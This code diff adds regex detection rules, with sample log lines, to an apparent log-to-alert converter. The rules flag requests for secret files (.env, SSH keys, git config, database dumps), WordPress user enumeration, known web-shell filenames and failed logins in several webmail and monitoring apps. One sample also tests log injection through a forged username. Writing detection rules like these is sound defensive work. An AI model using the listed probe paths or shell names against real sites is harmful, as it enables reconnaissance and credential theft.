+        "id": "http-access.sensitive-file",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,6}/(?:\\.env(?:\\.[a-z]{1,10})?|\\.git/(?:config|HEAD|index)|\\.svn/entries|\\.htpasswd|\\.bash_history|\\.ssh/id_[a-z0-9]{2,10}|id_rsa|wp-config\\.php(?:\\.bak|\\.old|\\.save|\\.swp|\\.txt|~)|[A-Za-z0-9_.-]{0,64}\\.(?:sql|sql\\.gz|sql\\.zip))(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "HTTP request from {ip} for a secret or backup file: {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.90 - - [10/Oct/2023:13:55:36 +0000] \"GET /.env HTTP/1.1\" 200 812 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.90"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "203.0.113.91 - - [10/Oct/2023:13:55:36 +0000] \"GET /wp-config.php.bak HTTP/1.1\" 301 0 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.91"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.92 - - [10/Oct/2023:13:55:36 +0000] \"GET /backup/db.sql HTTP/1.1\" 200 90000 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.92"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.93 - - [10/Oct/2023:13:55:36 +0000] \"GET /docs/sql-guide.html HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.wordpress-user-enum",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>/(?:[^ \"?/]{1,64}/){0,3}(?:\\?author=\\d{1,9}|(?:index\\.php)?\\?rest_route=/wp/v2/users|wp-json/wp/v2/users)[^ \"]{0,1024}) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "WordPress user enumeration from {ip}: {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.94 - - [10/Oct/2023:13:55:36 +0000] \"GET /?author=1 HTTP/1.1\" 301 0 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.94"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.95 - - [10/Oct/2023:13:55:36 +0000] \"GET /wp-json/wp/v2/users HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.95"
+                }
+              ]
             }
           }
         ]
@@ -2374,7 +3011,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         },
         "samples": [
           {
-            "line": "198.51.100.75 - - [02/Mar/2024:11:11:11 +0000] \"GET /wp-content/plugins/revslider/temp/update_extract/revslider/x.php HTTP/1.1\" 404 226 \"-\" \"Mozilla/5.0\"",
+            "line": "198.51.100.75 - - [02/Mar/2024:11:11:11 +0000] \"GET /plugins/revslider/temp/update_extract/revslider/x.php HTTP/1.1\" 404 226 \"-\" \"Mozilla/5.0\"",
             "expect": {
               "Source": [
                 {
@@ -2403,6 +3040,54 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "198.51.100.78 - - [02/Mar/2024:11:11:11 +0000] \"GET /css/site.css HTTP/1.1\" 404 226 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.webshell-request",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,8}/(?:c99|c100|r57|r00t|wso|b374k|webshell|indoxploit|k2ll33d|sh3ll|priv8|0byte|alfa|alfashell|cmd|shell|xleet)\\.php[0-9]?(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "HTTP request from {ip} for a web shell: {method} {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.96 - - [10/Oct/2023:13:55:36 +0000] \"POST /wp-content/uploads/wso.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.96"
+                }
+              ],
+              "Category": [
+                "Access.Other"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.97 - - [10/Oct/2023:13:55:36 +0000] \"GET /c99.php?act=ls HTTP/1.1\" 403 199 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.97"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.98 - - [10/Oct/2023:13:55:36 +0000] \"GET /shells/overview.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
             "expect": null
           }
         ]
@@ -2470,6 +3155,15 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         {
           "prefix": "^(?=[0-9A-Fa-f:.]{2,45} [^ ]{1,64} [^ ]{1,256} \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
           "time": "DD/MMM/YYYY:hh:mm:ss Z"
+        },
+        {
+          "prefix": "^(?<host>[A-Za-z0-9_][A-Za-z0-9_.-]{0,252})(?::\\d{1,5})? (?=[0-9A-Fa-f:.]{2,45} [^ ]{1,64} [^ ]{1,256} \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
+          "time": "DD/MMM/YYYY:hh:mm:ss Z"
+        },
+        {
+          "prefix": "^(?<client>[0-9A-Fa-f:.]{2,45}) {1,2}(?<ident>[^ ]{1,64}) {1,2}(?<user>[^ ]{1,256}) {1,2}(?=\\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
+          "time": "DD/MMM/YYYY:hh:mm:ss Z",
+          "message": "{client} {ident} {user} "
         }
       ]
     }
@@ -2914,6 +3608,138 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-monitorix.yaml",
+    "rules": [
+      {
+        "id": "monitorix.auth-error",
+        "programs": [
+          "monitorix"
+        ],
+        "pattern": "^AUTHERR - \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] Authentication error: (?<url>\\S{0,2048})",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Low",
+        "description": "Monitorix refused HTTP authentication from {ip} for {url}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "monitorix"
+        },
+        "samples": [
+          {
+            "line": "Thu Jun 13 10:00:00 2019 - AUTHERR - [192.0.2.190] Authentication error: /monitorix",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.190"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Low",
+              "CreateTime": "2019-06-13T10:00:00Z"
+            }
+          },
+          {
+            "line": "Thu Jun  6 10:00:00 2019 - OK - [192.0.2.190] \"GET /monitorix - Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "monitorix.not-allowed",
+        "programs": [
+          "monitorix"
+        ],
+        "pattern": "^NOTALLOWED - \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] Access not allowed: (?<url>\\S{0,2048})",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "Monitorix refused {ip} (hosts_deny) for {url}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "monitorix"
+        },
+        "samples": [
+          {
+            "line": "Thu Jun 13 10:00:00 2019 - NOTALLOWED - [192.0.2.191] Access not allowed: /monitorix",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.191"
+                }
+              ],
+              "Category": [
+                "Access.Unauthorized"
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "monitorix.not-found",
+        "programs": [
+          "monitorix"
+        ],
+        "pattern": "^(?:NOTEXIST|ERROR) - \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] File does not exist: (?<url>\\S{0,2048})",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "HTTP probe from {ip} on Monitorix for {url}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "monitorix"
+        },
+        "samples": [
+          {
+            "line": "Thu Jun 13 10:00:00 2019 - NOTEXIST - [192.0.2.192] File does not exist: /manager/html",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.192"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ]
+            }
+          },
+          {
+            "line": "Sun Mar  3 09:00:00 2013 - ERROR - [2001:db8::193] File does not exist: /phpmyadmin/",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::193"
+                }
+              ]
+            }
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "monitorix",
+      "aliases": [
+        "monitorix-httpd"
+      ],
+      "description": "Monitorix built-in HTTP server log",
+      "lines": [
+        {
+          "prefix": "^(?<time>[A-Z][a-z]{2} [A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d \\d{4}) - (?=[A-Z]{2,12} - \\[)"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-murmur.yaml",
     "rules": [
       {
@@ -3350,7 +4176,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "nginx"
         ],
-        "pattern": "^limiting (?<what>requests|connections)(?:, excess: [0-9.]{1,20})? by zone \"(?<zone>[^\"]{0,128})\", client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
+        "pattern": "^limiting (?<what>requests|connections)(?:, dry run,?)?(?:, excess: [0-9.]{1,20})? by zone \"(?<zone>[^\"]{0,128})\", client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
         "category": [
           "Availability.DoS"
         ],
@@ -3382,6 +4208,26 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.46"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2020/01/20 13:09:12 [error] 7452#0: *1 limiting requests, dry run, excess: 1.000 by zone \"one\", client: 192.0.2.53, server: example.com, request: \"POST /login HTTP/1.1\", host: \"example.com\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.53"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2020/01/20 13:09:12 [error] 7452#0: *1 limiting connections, dry run, by zone \"addr\", client: 2001:db8::53, server: example.com, request: \"GET / HTTP/1.1\", host: \"example.com\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::53"
                 }
               ]
             }
@@ -3430,7 +4276,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "nginx"
         ],
-        "pattern": "^(?:open\\(\\) \"(?<path>[^\"]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma|myadmin|mysqladmin|admin|administrator|manager|cgi-bin|\\.env|\\.git|HNAP1|boaform|shell|setup\\.php)[^\"]{0,512}))\" failed \\(2: No such file or directory\\)|\"(?<index>[^\"]{0,2048}\\.php)\" is not found \\(2: No such file or directory\\)|FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream), client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
+        "pattern": "^(?:open\\(\\) \"(?<path>[^\"]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|wp-content|wp-includes|wordpress|xmlrpc\\.php|phpmyadmin|phpMyAdmin|PhpMyAdmin|phpMyadmin|phpadmin|PMA|pma|myadmin|MyAdmin|mysqladmin|mysql|sqladmin|sqlmanager|websql|dbadmin|admin|administrator|manager|joomla|cgi-bin|xampp|webdav|vtigercrm|muieblackcat|w00tw00t|jmx-console|web-console|invoker|solr|actuator|\\.env|\\.git|\\.svn|\\.aws|\\.ssh|\\.DS_Store|HNAP1|boaform|GponForm|shell|setup\\.php)[^\"]{0,512}))\" failed \\(2: No such file or directory\\)|\"(?<index>[^\"]{0,2048}\\.php)\" is not found \\(2: No such file or directory\\)|FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream), client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
         "category": [
           "Recon.Network"
         ],
@@ -3468,6 +4314,20 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "2013/08/28 23:44:32 [error] 5678#0: *9 open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory), client: 192.0.2.51, server: localhost, request: \"GET /favicon.ico HTTP/1.1\", host: \"example.org\"",
+            "expect": null
+          },
+          {
+            "line": "2013/08/28 23:44:32 [error] 5678#0: *9 open() \"/usr/share/nginx/html/wp-content/plugins/wp-file-manager/readme.txt\" failed (2: No such file or directory), client: 192.0.2.54, server: localhost, request: \"GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.54"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2013/08/28 23:44:32 [error] 5678#0: *9 open() \"/usr/share/nginx/html/robots.txt\" failed (2: No such file or directory), client: 192.0.2.55, server: localhost, request: \"GET /robots.txt HTTP/1.1\", host: \"example.org\"",
             "expect": null
           }
         ]
@@ -3610,6 +4470,90 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         },
         {
           "prefix": "^(?=(?:[^\\s/]{1,64}/)?(?:\\[AF_INET6?\\])?[0-9A-Fa-f:.]{2,45}:\\d{1,5} \\S|(?:OpenVPN \\d|TLS Error: |TLS Auth Error: |TLS_ERROR: |VERIFY |Authenticate/Decrypt packet error|AUTH-PAM: |PLUGIN_CALL: |WARNING: |NOTE: |MULTI|Initialization Sequence Completed|UDPv[46]|TCPv[46]|TUN/TAP|Control Channel|Data Channel|Outgoing |Incoming |Diffie-Hellman|Listening for incoming|[UG]ID set to|IFCONFIG POOL|ifconfig_pool_set|Socket Buffers|library versions|SIG(?:TERM|USR1|USR2|HUP|INT)|Closing TUN/TAP|net_|/sbin/ip |do_ifconfig|Exiting due to|Could not determine IPv4/IPv6 protocol))"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-openwebmail.yaml",
+    "rules": [
+      {
+        "id": "openwebmail.login-error",
+        "programs": [
+          "openwebmail"
+        ],
+        "requires": " - login error - ",
+        "pattern": "^\\((?<ip>[0-9A-Fa-f:.]{2,45})\\) (?<who>.{0,256}?) - login error - (?:no such user - loginname=(?<user>.{0,256})|(?<what>root login attempt|[A-Za-z0-9_.-]{1,64}, ret -?\\d{1,3}))",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Open WebMail login error from {ip} (logged as {who}): {what}{user}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "openwebmail"
+        },
+        "samples": [
+          {
+            "line": "Fri Sep 20 10:36:17 2013 - [12354] (192.0.2.195) bob - login error - auth_unix.pl, ret -4, username/password incorrect",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.195"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2013-09-20T10:36:17Z"
+            }
+          },
+          {
+            "line": "Fri Sep 20 10:36:18 2013 - [12355] (192.0.2.196) UNKNOWNUSER - login error - no such user - loginname=admin",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.196"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "openwebmail"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Fri Sep 20 10:36:19 2013 - [12356] (192.0.2.197) root - login error - root login attempt",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.197"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Fri Sep 20 10:36:20 2013 - [12357] (192.0.2.198) bob - login - bob*example.org-session-0.123 - active=1,1,1",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "openwebmail",
+      "aliases": [
+        "owm"
+      ],
+      "description": "Open WebMail log file",
+      "lines": [
+        {
+          "prefix": "^(?<time>[A-Z][a-z]{2} [A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d \\d{4}) - \\[(?<pid>\\d{1,10})\\] (?=\\()"
         }
       ]
     }
@@ -3803,6 +4747,96 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^(?:sshd(?:-session|-auth)?: )?(?=(?:Failed |Accepted |Invalid user |Connection closed by |Connection reset by |Disconnected from |Received disconnect from |Disconnecting |error: |fatal: |Unable to negotiate |banner exchange: |Did not receive identification |Timeout before authentication|User [^\\s:]{1,64} from |Bad protocol version |PAM |pam_unix\\(sshd:|ROOT LOGIN REFUSED|refused connect from |Postponed |Connection from |Server listening |Received signal |Bad packet length|Corrupted MAC|Authentication refused|reverse mapping checking|Address [0-9A-Fa-f:.]{2,45} maps to |Nasty PTR record|input_userauth_request|Protocol major versions differ|ssh_dispatch_run_fatal|kex_exchange_identification|maximum authentication attempts))"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-tine20.yaml",
+    "rules": [
+      {
+        "id": "tine20.login-failed",
+        "programs": [
+          "tine20"
+        ],
+        "requires": " Login with username ",
+        "pattern": "^Tinebase_Controller::[A-Za-z_]{1,40}::\\d{1,6} Login with username (?<user>.{0,256}) from (?<ip>[0-9A-Fa-f:.]{2,45}) failed \\((?<code>-?\\d{1,3})\\)!(?: Auth failure count: \\d{1,9})?$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Tine 2.0 login as {user} failed from {ip} (result {code})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "tine20"
+        },
+        "samples": [
+          {
+            "line": "a1b2c3 - -- none -- - 2021-03-01T10:00:00+00:00 INFO (6): Tinebase_Controller::_loginFailed::519 Login with username bob from 192.0.2.170 failed (-1)! Auth failure count: 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.170"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob",
+                  "Service": "tine20"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2021-03-01T10:00:00+00:00"
+            }
+          },
+          {
+            "line": "2c9a0 -- none -- - 2014-01-05T08:40:02+00:00 WARN (4): Tinebase_Controller::login::106 Login with username admin from 192.0.2.171 failed (-3)!",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.171"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin"
+                }
+              ]
+            }
+          },
+          {
+            "line": "a1b2c3 - -- none -- - 2021-03-01T10:00:00+00:00 INFO (6): Tinebase_Controller::_loginFailed::519 Login with username x from 6.6.6.6 failed (-1)! from 192.0.2.172 failed (-1)!",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.172"
+                }
+              ]
+            }
+          },
+          {
+            "line": "a1b2c3 - bob - 2021-03-01T10:00:01+00:00 INFO (6): Tinebase_Controller::_loginUser::231 Login with username bob from 192.0.2.170 succeeded.",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "tine20",
+      "aliases": [
+        "tine",
+        "tine-groupware"
+      ],
+      "description": "Tine 2.0 log file",
+      "lines": [
+        {
+          "prefix": "^(?:[^ ]{1,64} ){1,10}(?<time>\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?(?:[+-]\\d\\d:?\\d\\d|Z)?) [A-Z]{3,6} \\(\\d\\): "
         }
       ]
     }
